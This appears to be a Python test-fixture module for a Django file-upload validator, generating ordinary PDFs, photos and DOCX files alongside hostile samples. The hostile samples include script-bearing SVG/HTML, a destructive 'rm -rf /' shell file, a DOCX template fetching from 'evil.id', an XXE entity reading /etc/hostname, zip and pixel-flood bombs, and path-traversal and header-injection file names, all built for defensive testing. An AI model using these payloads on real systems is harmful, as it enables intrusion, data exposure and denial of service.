"""Files as people, and those who mean harm, would upload them; made here, none kept in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from tests.sheets import workbook

# --- Honest -----------------------------------------------------------------------------------


def pdf(inside: bytes = b"") -> bytes:
    """Return a small whole PDF."""
    body = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    body += b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n" + inside
    xref = b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000058 00000 n \n"
    end = b"trailer\n<< /Size 3 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(body)
    return body + xref + end


def photo(width: int = 64, height: int = 48, form: str = "JPEG", **options: object) -> bytes:
    """Return a picture with a different colour in every corner."""
    picture = Image.new("RGB", (width, height), "navy")
    picture.paste((250, 200, 20), (0, 0, width // 2, height // 2))
    out = io.BytesIO()
    picture.save(out, format=form, **options)  # type: ignore[arg-type]
    return out.getvalue()


def placed_photo() -> bytes:
    """Return a photograph taken upright, with the place and the phone in it."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by 90 degrees
    exif[0x010F] = "Merek Ponsel"
    exif.get_ifd(0x8825)[1] = "S"
    return photo(80, 40, exif=exif, comment=b"rumah di Jalan Melati 5")


def document(
    main: str = "word", extra: dict[str, bytes] | None = None, types: str = "", head: str = ""
) -> bytes:
    """Return a DOCX with these parts besides the main one."""
    kind = types or "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    listed = (
        f'{head}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/{main}/document.xml" ContentType="{kind}"/></Types>'
    )
    parts = {"[Content_Types].xml": listed.encode(), f"{main}/document.xml": b"<w:document/>"}
    return zipped(parts | (extra or {}))


def zipped(parts: dict[str, bytes]) -> bytes:
    """Return an archive of these parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def sheet() -> bytes:
    """Return an XLSX."""
    return workbook([["a", "b"], [1, 2]])


# --- Hostile ----------------------------------------------------------------------------------

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><script>alert(document.domain)</script>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def relations(target: str, kind: str = "attachedTemplate") -> dict[str, bytes]:
    """Return the list of links of a DOCX that reaches out to an address."""
    text = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    )
    return {"word/_rels/settings.xml.rels": text.encode()}


def pixel_flood(width: int = 40_000, height: int = 40_000) -> bytes:
    """Return a PNG of 300 bytes that says it is 40,000 by 40,000 pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        whole = kind + data
        return struct.pack(">I", len(data)) + whole + struct.pack(">I", zlib.crc32(whole))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def bomb() -> bytes:
    """Return a DOCX of some kilobytes that unpacks to 8 MB."""
    return document(extra={"word/media/besar.xml": b"0" * 8_000_000})


def locked() -> bytes:
    """Return a document that asks for a password, as Office writes it."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le")


def entity() -> bytes:
    """Return a DOCX whose list of parts loads a file of the server."""
    told = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><Types>&e;</Types>'
    return zipped({"[Content_Types].xml": told, "word/document.xml": b"<w:document/>"})


MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"

# name of the case: (content, name of the file, what the sentence says)
HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "nothing": (lambda: b"", "kosong.pdf", "kosong (0 bita)"),
    "too large": (lambda: pdf(b"% " + b"x" * 5_300_000), "besar.pdf", "Batasnya 5 MB"),
    "svg": (lambda: SVG, "gambar.svg", "halaman web"),
    "svg as photo": (lambda: SVG, "gambar.jpg", "halaman web"),
    "svg with mark": (lambda: b'\xef\xbb\xbf<?xml version="1.0"?>' + SVG, "gambar.png", "halaman web"),
    "html as pdf": (lambda: HTML, "surat.pdf", "halaman web"),
    "html after space": (lambda: b" \r\n\t" + HTML, "surat.pdf", "halaman web"),
    "mhtml": (lambda: b"MIME-Version: 1.0\r\n" + HTML, "surat.docx", "halaman web"),
    "gif and script": (lambda: b"GIF89a/*" + b"\0" * 20 + b"*/=alert(1)//", "x.jpg", "gambar GIF"),
    "program": (lambda: b"MZ" + b"\0" * 400, "foto.jpg", "program"),
    "elf": (lambda: b"\x7fELF" + b"\0" * 400, "surat.pdf", "program"),
    "shell": (lambda: b"#!/bin/sh\nrm -rf /\n", "surat.pdf", "program"),
    "archive": (lambda: zipped({"a.txt": b"a"}), "arsip.zip", "arsip ZIP"),
    "archive as docx": (lambda: zipped({"a.txt": b"a"}), "surat.docx", "arsip ZIP"),
    "rar": (lambda: b"Rar!\x1a\x07\x01\x00" + b"\0" * 99, "a.rar", "arsip"),
    "old word": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 99, "a.doc", "dokumen Office lama"),
    "locked office": (locked, "rahasia.docx", "terkunci kata sandi"),
    "heic": (lambda: b"\0\0\0\x18ftypheic" + b"\0" * 99, "IMG_1.HEIC", "HEIC"),
    "video": (lambda: b"\0\0\0\x18ftypmp42" + b"\0" * 99, "v.mp4", "video"),
    "text": (lambda: b"catatan biasa saja\n", "catatan.txt", "tidak dikenali"),
    "virus test file": (lambda: EICAR, "eicar.pdf", "tidak dikenali"),
    # wrong endings
    "pdf as photo": (pdf, "surat.jpg", "isinya PDF"),
    "photo as pdf": (photo, "foto.pdf", "isinya Foto"),
    "png as jpeg": (lambda: photo(form="PNG"), "gambar.jpg", "isinya Gambar"),
    "sheet as document": (sheet, "tabel.docx", "isinya Lembar Excel"),
    "no ending": (pdf, "surat", "tanpa akhiran"),
    "turned name": (pdf, "laporan\u202efdp.exe", ".exe"),
    # two kinds at once
    "pdf and zip": (lambda: pdf() + zipped({"a.html": HTML}), "surat.pdf", "berkas lain"),
    "zip inside pdf": (lambda: pdf(b"% " + zipped({"a": b"a"})), "surat.pdf", "berkas lain"),
    "pdf and page behind": (lambda: pdf() + HTML, "surat.pdf", "berkas lain"),
    "pdf and code behind": (lambda: pdf() + b"alert(1)//", "surat.pdf", "berkas lain"),
    "pdf and page in front": (
        lambda: pdf().replace(b"\n1 0", b"\n%" + HTML + b"\n1 0"),
        "s.pdf",
        "berkas lain",
    ),
    "page then pdf": (lambda: HTML + pdf(), "surat.pdf", "halaman web"),
    "docx and page": (lambda: document() + HTML, "surat.docx", "berkas lain"),
    "docx and pdf": (lambda: document(extra={"%PDF-1.7": b"a"}), "surat.docx", "berkas lain"),
    # harmful inside
    "pdf cut off": (lambda: pdf()[:-12], "surat.pdf", "terpotong"),
    "pdf locked": (lambda: pdf(b"<< /Encrypt 5 0 R >>\n"), "surat.pdf", "terkunci"),
    "pdf that runs": (lambda: pdf(b"<< /S /JavaScript /JS (app.alert) >>\n"), "s.pdf", "berjalan sendiri"),
    "macro": (lambda: document(extra={"word/vbaProject.bin": b"x"}), "surat.docx", "makro"),
    "macro by type": (lambda: document(types=MACRO), "surat.docx", "makro"),
    "other main part": (lambda: document(main="ppt"), "surat.docx", "bukan dokumen Word"),
    "program inside": (lambda: document(extra={"word/embeddings/a.exe": b"MZ"}), "s.docx", "berkas lain"),
    "template from afar": (lambda: document(extra=relations("https://evil.id/a")), "s.docx", "alamat luar"),
    "template of a share": (lambda: document(extra=relations("\\\\evil\\a")), "s.docx", "alamat luar"),
    "entity": (entity, "surat.docx", "tidak tersusun"),
    "list of parts with a grammar": (
        lambda: document(head="<!DOCTYPE Types>"),
        "surat.docx",
        "tidak tersusun",
    ),
    "bomb": (bomb, "surat.docx", "dimampatkan"),
    "many parts": (lambda: document(extra={f"a{n}": b"" for n in range(2001)}), "s.docx", "terlalu banyak"),
    "broken zip": (lambda: document()[:-40], "surat.docx", "rusak"),
    "pixel flood": (pixel_flood, "gambar.png", "terlalu luas"),
    "pixels below the guard of the library": (lambda: pixel_flood(6000, 5000), "g.png", "terlalu luas"),
    "broken photo": (lambda: photo()[:200], "foto.jpg", "rusak"),
    "only the mark": (lambda: b"\xff\xd8\xff\xe0" + b"\0" * 50, "foto.jpg", "rusak"),
}

HONEST: dict[str, tuple[Callable[[], bytes], str]] = {
    "pdf": (pdf, "laporan.pdf"),
    "photo": (photo, "foto.JPG"),
    "picture": (lambda: photo(form="PNG"), "tangkapan layar.png"),
    "document": (document, "notulen.docx"),
    "document with links": (
        lambda: document(extra=relations("https://contoh.go.id", "hyperlink")),
        "notulen.docx",
    ),
    "document of a template": (
        lambda: document(extra=relations("file:///C:\\Kantor\\Nota.dotx")),
        "nota.docx",
    ),
    "sheet": (sheet, "rekap.xlsx"),
}

NAMES = {
    "../../etc/passwd.pdf": "passwd.pdf",
    "C:\\Users\\ani\\surat.pdf": "surat.pdf",
    "a\r\nSet-Cookie: x=1.pdf": "a Set-Cookie_ x=1.pdf",
    '"><img src=x onerror=alert(1)>.pdf': "___img src=x onerror=alert(1)_.pdf",
    "CON.pdf": "berkas-CON.pdf",
    "con": "berkas-con",
    ".pdf": "pdf",
    "laporan\u202efdp.exe": "laporanfdp.exe",
    "a\x00b\x07.pdf": "ab.pdf",
    "  Laporan   akhir .pdf": "Laporan akhir.pdf",
    "": "berkas-",
}


def sent_file(content: bytes, name: str) -> SimpleUploadedFile:
    """Return a file as it arrives with a form."""
    return SimpleUploadedFile(name or "x", content)
